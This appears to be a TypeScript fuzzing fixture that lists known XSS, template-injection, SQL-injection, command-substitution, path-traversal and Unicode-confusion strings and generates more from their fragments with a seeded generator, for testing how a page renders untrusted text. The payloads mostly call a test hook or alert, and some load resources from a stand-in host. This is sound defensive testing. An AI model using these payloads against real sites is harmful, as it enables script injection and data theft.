/** Strings that have broken pages before, and others made from their parts by a generator with a seed, so that a failure can be repeated. */

/** What each of them does where it runs. The test page has `hostileRan`. */
const RUN = "(globalThis.hostileRan||alert)('ran')";

/** Well-known ones, each for a place where a page may put a text. */
const KNOWN: readonly string[] = [
  `<script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`, `"><script>${RUN}</script>`,
  `'-${RUN}-'`, `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `&#106;avascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`,
  `<iframe srcdoc="<script>${RUN}</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`, `<template><script>${RUN}</script></template>`,
  `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<body onpageshow=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`, `[x](javascript:${RUN})`, `[x](JAVASCRIPT&colon;${RUN})`, `[x](<javascript:${RUN}>)`, `![x](https://evil.example/x.png)`, `![x](javascript:${RUN})`,
  `[x]: javascript:${RUN}\n[x]`, `<https://evil.example/"onmouseover="${RUN}>`, `https://evil.example/'onmouseover='${RUN}`, `<x@evil.example?subject=${RUN}>`,
  '```html\n<script>\n', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="https://evil.example/x.swf">', '<embed src="//evil.example">', '<form action=https://evil.example><input name=a><button>', '<style>*{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>', '{@html "<b>x</b>"}', '{#if x}', '#{7*7}', '%00', '%0d%0aX: y',
  '\u202egnp.exe', '\u2066\u202e\u2069', '\u200b\u200c\u200d\ufeff', 'a\u0300'.repeat(200), '\0', 'a\0b', '\x1b[31mred\x1b[0m\x07', '\u2028\u2029', '\x85\v\f', '\ufffd\ufffe\uffff',
  '\ud83e\uddf3\u200d\ud83d\udc69', '\u{e0001}\u{e007f}', '../../etc/passwd', 'C:\\con\\nul', 'file:///etc/passwd', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN',
  '%s%n%x', "'; DROP TABLE pastes; --", '=cmd|calc!A1', '`id`', '$(id)', '() { :; };', 'GIF89a/*<svg/onload=alert(1)>*/=0;', '%PDF-1.4 <script>app.alert(1)</script>',
  'text/html', 'image/svg+xml', 'text/html;charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '\uff1cscript\uff1ealert(1)',
  'A'.repeat(4096), '<'.repeat(4096), '['.repeat(4096), '*'.repeat(4096), '`'.repeat(4095), '> '.repeat(2048), '\u202e'.repeat(4096 / 2), '&'.repeat(4096), '|-'.repeat(2048), ' '.repeat(4096) + 'x',
];

/** Beginnings, middles and ends. */
const PARTS: readonly string[] = [
  '<', '>', '"', "'", '`', '&', ';', '&lt;', '&#x3c;', '</', '<!--', '-->', '<![CDATA[', ']]>', '<script>', '</script>', '<svg/onload=', '<img src=x onerror=', 'javascript:', 'data:text/html,', RUN,
  '(', ')', '[', ']', '![', '](', '{', '}', '${', '{{', '\\', '/', '//', 'https://evil.example/', '@', '#', '*', '_', '~~', '```', '|', '---', '\n', '\n\n', '\t', '    ', '\0', '\u202e', '\u2066', '\u200f',
  '\u2028', '\ufeff', '\u0301', '\u{1f9f3}', 'שלום', 'مرحبا', 'style=', 'href=', 'srcdoc=', ' on', '=', ' ', 'a', '1.', '- ', '> ',
];

/** The known ones first, then made ones, `count` in all. */
export function hostileStrings(count: number, seed: number): string[] {
  let state = seed >>> 0;
  const below = (bound: number): number => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * bound);
  };
  const made = Array.from({ length: Math.max(0, count - KNOWN.length) }, () =>
    Array.from({ length: 2 + below(14) }, () => PARTS[below(PARTS.length)]).join(''));
  return [...KNOWN, ...made].slice(0, count);
}
